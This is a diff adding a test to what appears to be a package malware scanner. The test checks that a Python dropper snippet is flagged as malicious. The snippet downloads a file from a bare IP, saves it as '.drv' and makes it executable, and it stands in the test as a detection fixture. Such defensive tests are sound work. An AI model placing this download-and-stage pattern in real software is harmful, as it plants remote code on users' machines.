@@ -411,3 +411,19 @@ test('a dropper split across static methods: the address fetched from a paste si
   });
   assert.notEqual(pip.verdict, 'malicious', pip.reason);
 });
+
+test('a file downloaded from a bare IP and made executable is a dropper; the same from a vendor is not decisive', async () => {
+  const code = [
+    'import os, stat, urllib.request',
+    'def rn():',
+    "    data = urllib.request.urlopen('http://198.51.100.7/out').read()",
+    "    with open('.drv', 'wb') as d:",
+    '        d.write(data)',
+    "    os.chmod('.drv', os.stat('.drv').st_mode | stat.S_IEXEC)",
+  ].join('\n');
+  const { out, score } = await scan({ 'pkg/pr.py': code });
+  assert.equal(score.verdict, 'malicious', score.reason);
+  assert.ok(out.findings.some((f) => /makes it executable/.test(f.message)));
+  const { score: vendor } = await scan({ 'pkg/pr.py': code.replace('http://198.51.100.7/out', 'https://storage.googleapis.com/tool/linux/tool') });
+  assert.notEqual(vendor.verdict, 'malicious', vendor.reason);
+});
